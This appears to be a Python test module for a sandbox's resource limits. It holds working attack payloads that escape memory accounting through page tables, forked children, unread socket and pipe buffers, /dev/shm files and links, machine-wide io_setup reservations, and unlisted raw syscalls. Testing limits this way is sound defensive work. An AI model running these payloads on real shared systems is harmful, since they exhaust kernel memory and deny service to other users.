"""What can be taken beyond the limits: memory that is not counted, calls, kernel tables.

Each attacker has solved the lesson; the harm comes after it, and stops soon after the
limit, so that a machine survives what works. What got beyond a limit prints LOOT.
"""

from tests.attacks.arena import FULL, LIMITS, Hand
from tests.attacks.registry import Family

taking = Family("harm the machine or the run")

MAP = (
    f"LIMIT_MIB = {LIMITS.memory_mib}"
    + """
import ctypes, os, platform
FOUND = "LO" + "OT"
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
READ, WRITE, PRIVATE, ANONYMOUS, RESERVE_NOTHING = 1, 2, 0x02, 0x20, 0x4000

def used(name):
    lines = open("/proc/self/status").read().splitlines()
    return int(next(line for line in lines if line.startswith(name)).split()[1]) >> 10

def found(mib, what):
    if mib > LIMIT_MIB:
        print(FOUND, mib, "MiB of", what)
"""
)


def _harm(hand: Hand, code: str) -> None:
    hand.solve()
    hand.last(MAP + code)


@taking(FULL, stock=False)
def fills_page_tables_with_nothing(hand: Hand) -> None:
    """Read a terabyte that was never written: its page tables are memory."""
    _harm(
        hand,
        """
at = libc.mmap(None, 2**40, READ, PRIVATE | ANONYMOUS | RESERVE_NOTHING, -1, 0)
for number in range(90_000):
    ctypes.c_ubyte.from_address(at + number * 2**21).value
found(used("VmPTE"), "page tables")
""",
    )


@taking(FULL, stock=False)
def fills_page_tables_with_a_library(hand: Hand) -> None:
    """Map one page of a library at sixty thousand places, far from each other."""
    _harm(
        hand,
        """
import numpy
hoard = bytearray(b"x") * (100 * 2**20)
file = os.open(numpy.__file__, os.O_RDONLY)
at = libc.mmap(None, 2**38, READ, PRIVATE | ANONYMOUS | RESERVE_NOTHING, -1, 0)
libc.munmap(ctypes.c_void_p(at), ctypes.c_size_t(2**38))
for number in range(60_000):
    place = at + number * 2**21
    libc.mmap(place, 4096, READ, PRIVATE | 0x10, file, 0)  # MAP_FIXED
    ctypes.c_ubyte.from_address(place).value
found(100 + used("VmPTE"), "page tables and memory together")
""",
    )


@taking(FULL, stock=False)
def fills_page_tables_of_its_children(hand: Hand) -> None:
    """Let four children fill a quarter of the page tables each."""
    _harm(
        hand,
        """
at = libc.mmap(None, 2**40, READ, PRIVATE | ANONYMOUS | RESERVE_NOTHING, -1, 0)
reading, writing = os.pipe()
for child in range(4):
    if os.fork() == 0:
        for number in range(25_000):
            ctypes.c_ubyte.from_address(at + number * 2**21).value
        os.write(writing, b"%d " % used("VmPTE"))
        import time
        time.sleep(20)
told = b""
while told.count(b" ") < 4:
    told += os.read(reading, 100)
found(sum(map(int, told.split())), "page tables")
""",
    )


SOCKETS = """
import socket
def fill(kind, most_mib):
    kept, total = [], 0
    try:
        while total < most_mib << 20:
            kept.append(socket.socketpair(socket.AF_UNIX, kind))
            for end in kept[-1]:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
                try:
                    while True:
                        total += end.send(bytes(2**16))
                except BlockingIOError:
                    pass
    except OSError as error:
        print(error)
    return kept, total >> 20
"""


@taking(FULL, stock=False)
def takes_memory_in_mappings(hand: Hand) -> None:
    """Have children map sixty thousand places each: the kernel keeps a list of them."""
    _harm(
        hand,
        """
import time
MAPPINGS, CHILDREN, BYTES = 60_000, 40, 200
at = libc.mmap(None, 2 * MAPPINGS * 4096, READ, PRIVATE | ANONYMOUS, -1, 0)
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
for number in range(MAPPINGS // 2):
    libc.mprotect(at + 2 * number * 4096, 4096, READ | WRITE)
lines = open("/proc/self/maps").read().count("\\n")
for made in range(1, CHILDREN + 1):
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
    time.sleep(0.05)
    found((made * lines * BYTES >> 20) - 64, "mappings")  # it is weighed now and then
""",
    )


@taking(FULL, stock=False)
def fills_local_sockets(hand: Hand) -> None:
    """Write into local sockets that nobody reads."""
    _harm(
        hand,
        SOCKETS + "\nkept, mib = fill(socket.SOCK_DGRAM, 320)\nfound(mib, 'sockets')",
    )


@taking(FULL, stock=False)
def fills_local_streams(hand: Hand) -> None:
    """Write into local streams that nobody reads, beside all the memory it may have."""
    _harm(
        hand,
        SOCKETS
        + """
hoard = bytearray(b"x") * (200 * 2**20)
kept, mib = fill(socket.SOCK_STREAM, 120)
found(mib + 200, "streams and memory together")
""",
    )


@taking(FULL, stock=False)
def fills_pipes(hand: Hand) -> None:
    """Fill pipes of the largest size, beside all the memory it may have."""
    _harm(
        hand,
        """
import fcntl
hoard = bytearray(b"x") * (225 * 2**20)
kept, total = [], 0
try:
    while True:
        kept.append(os.pipe())
        os.set_blocking(kept[-1][1], False)
        fcntl.fcntl(kept[-1][1], 1031, 2**20)  # F_SETPIPE_SZ
        try:
            while True:
                total += os.write(kept[-1][1], bytes(2**16))
        except BlockingIOError:
            pass
except OSError as error:
    print(error)
found(225 + (total >> 20), "pipes and memory together")
""",
    )


@taking(FULL, stock=False)
def fills_files_and_memory(hand: Hand) -> None:
    """Take all the memory it may have, and as much again in files that are memory."""
    _harm(
        hand,
        """
import time
hoard, total = bytearray(b"x") * (230 * 2**20), 0
for place, files in (("/dev/shm", 9), (".", 4)):
    for number in range(files):
        with open(f"{place}/large-{number}", "wb") as file:
            total += file.write(bytes(6 * 2**20))
time.sleep(0.7)
found(230 + (total >> 20), "files and memory together")
""",
    )


@taking(FULL, stock=False)
def makes_files_without_end_in_shared_memory(hand: Hand) -> None:
    """Make empty files where shared memory lies: each is a kilobyte of the kernel's."""
    _harm(
        hand,
        """
made, folder = 0, os.open("/dev/shm", os.O_RDONLY)
try:
    while made < 20_000:
        os.close(os.open(str(made), os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=folder))
        made += 1
except OSError as error:
    print(error)
if made >= 20_000:
    print(FOUND, made, "files")
""",
    )


@taking(FULL, stock=False)
def makes_links_without_end_in_shared_memory(hand: Hand) -> None:
    """Make links with long targets where shared memory lies."""
    _harm(
        hand,
        """
made, folder = 0, os.open("/dev/shm", os.O_RDONLY)
try:
    while made < 20_000:
        os.symlink("x" * 120, str(made), dir_fd=folder)
        made += 1
except OSError as error:
    print(error)
if made >= 20_000:
    print(FOUND, made, "links")
""",
    )


@taking(FULL, stock=False)
def takes_the_machines_asynchronous_io(hand: Hand) -> None:
    """Reserve what there is of a resource that all processes of the machine share."""
    _harm(
        hand,
        """
taken = 0
for size in (20_000, 2_000):
    while taken < 40_000:
        if libc.syscall(206, size, ctypes.byref(ctypes.c_ulong(0))) < 0:
            break
        taken += size
if taken:
    print(FOUND, taken, "asynchronous requests of all")
""",
    )


@taking(FULL, stock=False)
def makes_calls_that_no_lesson_needs(hand: Hand) -> None:
    """Make system calls that a list of what is needed would not have in it."""
    _harm(
        hand,
        """
calls = {"io_setup": 206, "inotify_init1": 294, "fanotify_mark": 301, "statmount": 457,
         "listmount": 458, "lsm_get_self_attr": 459, "lsm_list_modules": 461,
         "open_tree_attr": 467, "file_setattr": 469, "cachestat": 451, "syncfs": 306,
         "ustat": 136, "sysfs": 139, "mq_unlink": 241, "msgsnd": 69, "semop": 65,
         "shmat": 30, "process_mrelease": 448, "tee": 276, "vmsplice": 278}
if platform.machine() == "x86_64":
    for name, number in calls.items():
        ctypes.set_errno(0)
        libc.syscall(number, -1, 0, 0, 0, 0, 0)
        if ctypes.get_errno() not in (1, 38):  # EPERM, ENOSYS
            print(FOUND, "the call", name)
""",
    )
